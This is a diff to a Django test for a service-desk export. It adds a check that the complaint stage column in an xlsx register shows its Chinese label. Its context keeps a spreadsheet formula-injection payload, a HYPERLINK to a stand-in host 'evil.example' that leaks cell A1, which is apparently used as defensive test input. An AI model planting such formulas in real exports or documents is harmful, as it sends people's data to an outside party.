@@ -17,7 +17,7 @@ from django.utils import translation
 from openpyxl import load_workbook
 
 from servicedesk import exports
-from tickets.models import Ticket
+from tickets.models import Complaint, Ticket
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 SH = ZoneInfo("Asia/Shanghai")
@@ -168,8 +168,9 @@ def test_complaint_register_xlsx_readable_in_chinese(client_for, evil_complaint)
     assert ws.freeze_panes == "A2" and all(c.font.b for c in ws[1])
     opened = ws.cell(row=2, column=2)
     assert opened.value == datetime(2026, 11, 3, 9, 30) and opened.is_date and "yyyy" in opened.number_format
-    status = ws.cell(row=2, column=7).value
+    stage, status = ws.cell(row=2, column=7).value, ws.cell(row=2, column=8).value
     with translation.override("zh-hans"):
+        assert stage == str(Complaint.Stage.CLASSIFIED.label) and stage != "classified"
         assert status == str(Ticket.Status.NEW.label) and status not in ("new", "New")
     ascii_name, label = disposition(response)
     assert ascii_name.startswith("complaints-other-open-")
